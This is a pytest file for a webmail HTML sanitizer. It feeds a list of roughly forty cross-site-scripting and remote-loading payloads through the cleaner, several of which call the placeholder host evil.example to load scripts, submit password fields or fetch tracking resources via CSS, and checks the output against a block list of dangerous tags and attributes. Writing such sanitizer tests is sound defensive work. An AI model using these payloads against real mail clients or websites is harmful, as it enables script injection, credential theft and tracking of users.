"""A stranger's HTML: nothing that runs, loads or leaves gets through."""

import pytest

from webmail.bodies.cleaning import clean
from webmail.bodies.totext import text_of_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<iframe src='http://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='http://evil.example/x'></object><embed src='http://evil.example/x'>",
    "<form action='http://evil.example'><input name=password><button>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href='http://evil.example/'>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<link rel=prefetch href='http://evil.example/'>",
    "<style>@import url(http://evil.example/x.css);</style>",
    "<style>p { background: url(http://evil.example/x) }</style>",
    "<style>@font-face { font-family: x; src: url(http://evil.example/x) }</style>",
    "<style>p { background: image-set('http://evil.example/x' 1x) }</style>",
    "<style></style><script>alert(1)</script>",
    "<style>p{color:red}</style/><img src=x onerror=alert(1)>",
    "<p style='background: url(http://evil.example/x)'>x</p>",
    "<p style='background: \\75 rl(http://evil.example/x)'>x</p>",
    "<p style='behavior: url(x); -moz-binding: url(http://evil.example)'>x</p>",
    "<p style='width: expression(alert(1))'>x</p>",
    "<p style='position: fixed; inset: 0; z-index: 9999'>x</p>",
    "<body background='http://evil.example/x.gif' onload=alert(1)>",
    "<table background='http://evil.example/x.gif'><tr><td background='http://evil.example/x'>x</table>",
    "<img srcset='http://evil.example/x 1x' src='http://evil.example/y'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='/webmail/logout/'>",
    "<video src='http://evil.example/x' poster='http://evil.example/p'></video><audio src='http://evil.example/x'>",
    "<picture><source srcset='http://evil.example/x'><img></picture>",
    "<input type=image src='http://evil.example/x'>",
    "<a href='http://evil.example' ping='http://evil.example/p' onclick='x()' download>x</a>",
    "<div id=toasts name=toasts>x</div>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
]
FORBIDDEN = (
    "<script", "javascript:", "vbscript:", "onerror", "onload", "onclick", "<svg", "<math", "<iframe", "<object",
    "<embed", "<form", "<input", "<button", "<meta", "<base", "<link", "@import", "@font-face", "srcset", "<video",
    "<audio", "<source", "ping=", "behavior", "-moz-binding", "expression(", "position", "background=", " id=",
    "data:text",
    "data:image/svg", "image-set", "/webmail/logout", "url(", "<template", "<noscript",
)  # fmt: skip


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_is_left(html: str) -> None:
    cleaned = clean(html, cids={}, proxy=None, write_to="/write/")
    out = (cleaned.body + cleaned.css).lower()
    for word in FORBIDDEN:
        assert word not in out, (word, out)
    remaining = out.replace('http://evil.example" target', "")  # a plain link may stay a link
    assert "evil.example" not in remaining.replace('href="http://evil.example"', "")


def test_what_makes_a_letter_readable_stays() -> None:
    html = (
        "<style>.x { color: #123; padding: 2px } @media (max-width: 9em) { .x { width: 100% } }</style>"
        "<table width=600 bgcolor=#eee><tr>"
        "<td class=x style='color: red; font-size: 12px'>Hi <b>you</b></td></tr></table>"
        "<a href='https://example.org/?a=1&amp;b=2'>link</a><img src='data:image/png;base64,AAAA' alt=A width=3>"
    )
    cleaned = clean(html, cids={}, proxy=None, write_to="/write/")
    assert '<td class="x" style="color:red;font-size:12px">Hi <b>you</b></td>' in cleaned.body
    assert 'href="https://example.org/?a=1&amp;b=2"' in cleaned.body
    assert 'rel="noopener noreferrer nofollow"' in cleaned.body
    assert 'target="_blank"' in cleaned.body
    assert ".x{color:#123;padding:2px}" in cleaned.css
    assert "@media (max-width: 9em)" in cleaned.css
    assert 'src="data:image/png;base64,AAAA"' in cleaned.body


def test_remote_pictures_are_counted_once_each_and_go_through_the_proxy() -> None:
    html = (
        "<img src='http://a.example/1'><img src='http://a.example/1'><p style='background:url(https://a.example/2)'>x"
    )
    assert clean(html, cids={}, proxy=None, write_to="/w/").remote_images == 2
    shown = clean(html, cids={}, proxy=lambda url: "/p?" + url[-1], write_to="/w/")
    assert shown.body.count('src="/p?1"') == 2
    assert "url(&quot;/p?2&quot;)" in shown.body


def test_cid_pictures_and_mailto_links_stay_with_us() -> None:
    cleaned = clean("<img src='cid:a@b'><img src='cid:c'><a href='mailto:x@y.example?subject=s'>m</a>",
                    cids={"a@b": "/part/2"}, proxy=None, write_to="/w/")  # fmt: skip
    assert 'src="/part/2"' in cleaned.body
    assert cleaned.used_cids == {"a@b"}
    assert 'href="/w/?to=x%40y.example"' in cleaned.body


def test_deep_nesting_and_long_text_end_in_time() -> None:
    cleaned = clean("<div>" * 20_000 + "x", cids={}, proxy=None, write_to="/w/")
    assert "x" in cleaned.body
    assert "x" in text_of_html("<div>" * 20_000 + "x")


def test_text_of_html_for_quoting() -> None:
    html = "<style>x</style><p>Hello  <b>Bob</b></p><ul><li>a</li><li>b</li></ul>x<br>y<script>1</script>"
    assert text_of_html(html) == "Hello Bob\n\n- a\n- b\n\nx\ny"
